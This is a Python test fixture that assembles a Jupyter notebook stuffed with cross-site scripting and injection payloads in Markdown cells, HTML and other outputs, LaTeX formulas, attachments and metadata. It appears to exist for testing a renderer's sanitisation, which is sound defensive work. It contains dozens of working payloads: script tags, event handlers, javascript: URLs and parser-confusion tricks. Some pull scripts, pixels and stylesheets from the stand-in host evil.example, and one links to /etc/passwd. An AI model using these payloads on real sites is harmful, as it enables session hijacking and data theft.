"""What a stranger's notebook might hold: each entry is Markdown, HTML of an output, a formula, or another output."""

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SET = "window.pwned=1"

HTML = [
    f"<script>{SET}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>{SET}</scr</script>ipt>",
    f'<img src=x onerror="{SET}">',
    f"<img src=x onerror={SET}//",
    f'<img src="data:image/png;base64,{PNG}" onload="{SET}">',
    f"<svg onload={SET}><script>{SET}</script></svg>",
    f"<svg><animate onbegin={SET} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{SET}"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    f"<body onload={SET}>",
    f"<details open ontoggle={SET}>x</details>",
    f"<input autofocus onfocus={SET}>",
    f"<video><source onerror={SET}></video>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    f'<iframe src="javascript:{SET}"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    f'<object data="javascript:{SET}"></object>',
    "<embed src=https://evil.example/x.swf>",
    f'<a href="javascript:{SET}">x</a>',
    f'<a href="  java\tscript:{SET}">x</a>',
    f'<a href="&#106;avascript:{SET}">x</a>',
    f'<a href="data:text/html,<script>{SET}</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<a href=file:///etc/passwd>x</a>",
    '<form action="https://evil.example"><input name=q><button>Send</button></form>',
    f'<button formaction="javascript:{SET}">x</button>',
    f'<isindex type=image src=1 onerror="{SET}">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/x">',
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    '<style>*{background:url("https://evil.example/x")}</style>',
    '<div style="background:url(https://evil.example/x);position:fixed;top:0;left:0">over everything</div>',
    '<div class="frames" style="position:fixed">x</div>',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 2x" src="x">',
    '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/p.png"></picture>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</table>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SET}"></style></mglyph></table></mtext></math>',
    f'<math href="javascript:{SET}">x</math>',
    f'<math><mi xlink:href="javascript:{SET}">x</mi></math>',
    f'<math><annotation-xml encoding="text/html"><script>{SET}</script></annotation-xml></math>',
    f'<noscript><p title="</noscript><img src=x onerror={SET}>"></noscript>',
    f'<textarea><img title="</textarea><img src=x onerror={SET}>"></textarea>',
    f"<template><script>{SET}</script></template>",
    f'<p title="<table>" onclick="{SET}">x</p><td title="<table> onmouseover={SET} x">y</td>',
    f"<!--><img src=x onerror={SET}>-->",
    f"<![CDATA[><img src=x onerror={SET}>]]>",
    f"</pre></section></main><script>{SET}</script>",
    '<input type="radio" name="frames0" id="frames0-0" checked><label for="frames0-0">x</label>',
    f'<marquee onstart="{SET}">x</marquee><portal src="https://evil.example"></portal>',
]

MARKDOWN = [
    f"[x](javascript:{SET})",
    f"[x](<java\nscript:{SET}>)",
    "![x](https://evil.example/pixel.png)",
    f'![x" onerror="{SET}](data:image/png;base64,{PNG})',
    f'![$\\text{{" onerror="{SET}}}$](data:image/png;base64,{PNG})',
    f"# Heading <img src=x onerror={SET}>",
    f"`code </code><script>{SET}</script>`",
    f"```\n</pre><script>{SET}</script>\n```",
    f"| <script>{SET}</script> | b |\n|---|---|\n| <img src=x onerror={SET}> | $x$ |",
    "![x](attachment:evil.svg)",
    f"<https://evil.example/{'a' * 20}> <javascript:{SET}>",
]

FORMULAS = [
    rf"\href{{javascript:{SET}}}{{x}}",
    rf"\text{{<img src=x onerror={SET}>}}",
    rf"\text{{</math><script>{SET}</script>}}",
    rf"\style{{background:url(https://evil.example/x)}}{{x}} \class{{frames}}{{x}} <script>{SET}</script>",
    r"\includegraphics{https://evil.example/x.png}",
    r"\def\x{\x\x}\x \frac{",
]

OUTPUTS = [
    {"output_type": "stream", "name": "stdout", "text": f"</pre><script>{SET}</script>"},
    {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m<img src=x onerror={SET}>\x1b[0m"},
    {
        "output_type": "error",
        "ename": f"<script>{SET}</script>",
        "evalue": "x",
        "traceback": [f"<script>{SET}</script>"],
    },
    {
        "output_type": "error",
        "ename": f"<script>{SET}</script>",
        "evalue": f"<img onerror={SET}>",
        "traceback": [],
    },
    {"output_type": "display_data", "data": {"application/javascript": SET}, "metadata": {}},
    {
        "output_type": "display_data",
        "data": {"image/svg+xml": f"<svg onload={SET}/>", "text/plain": "x"},
        "metadata": {},
    },
    {
        "output_type": "display_data",
        "data": {"image/png": f'{PNG}" onerror="{SET}', "text/plain": "x"},
        "metadata": {},
    },
    {
        "output_type": "display_data",
        "data": {"image/png": PNG, "text/plain": f'"><script>{SET}</script>'},
        "metadata": {},
    },
    {
        "output_type": "display_data",
        "data": {"image/png": PNG},
        "metadata": {"image/png": {"alt": f'" onload="{SET}'}},
    },
    {
        "output_type": "display_data",
        "data": {"image/png": PNG, "text/plain": "x"},
        "metadata": {
            "labutils": {
                "frames": [{"label": f"<img src=x onerror={SET}>", "png": PNG}, {"label": '"', "png": PNG}]
            }
        },
    },
    {
        "output_type": "display_data",
        "data": {"image/png": PNG, "text/plain": "x"},
        "metadata": {"labutils": {"frames": [{"label": "a", "png": f'" onload="{SET}'}, 3]}},
    },
    {
        "output_type": "display_data",
        "data": {"image/jpeg": "bm90IGEgcGljdHVyZQ==", "text/plain": "x"},
        "metadata": {},
    },
    {
        "output_type": "display_data",
        "data": {"text/latex": f"$$</script><script>{SET}</script>$$"},
        "metadata": {},
    },
    {
        "output_type": "display_data",
        "data": {"application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{SET}</script>"}},
        "metadata": {},
    },
    {"output_type": "display_data", "data": [f"<script>{SET}</script>"], "metadata": "x"},
    {"output_type": f"<script>{SET}</script>", "data": {"text/plain": f"<script>{SET}</script>"}},
]


def notebook() -> dict:
    """One notebook with all of it."""
    cells = [{"cell_type": "markdown", "source": text} for text in (*HTML, *MARKDOWN)]
    cells += [{"cell_type": "markdown", "source": f"${tex}$ and $${tex}$$"} for tex in FORMULAS]
    html = [{"output_type": "display_data", "data": {"text/html": text}, "metadata": {}} for text in HTML]
    md = [
        {"output_type": "display_data", "data": {"text/markdown": text}, "metadata": {}}
        for text in HTML + MARKDOWN
    ]
    for output in (*html, *md, *OUTPUTS):
        cells.append({"cell_type": "code", "source": f"# </pre><script>{SET}</script>", "outputs": [output]})
    evil = {"evil.svg": {"image/svg+xml": f"<svg onload={SET}/>"}, "x": [f"<script>{SET}</script>"]}
    cells.append(
        {
            "cell_type": "markdown",
            "source": "![x](attachment:evil.svg)![y](attachment:x)",
            "attachments": evil,
        }
    )
    cells.append({"cell_type": "raw", "source": f"<script>{SET}</script>"})
    return {
        "cells": cells,
        "metadata": {"title": f"</title><script>{SET}</script>"},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
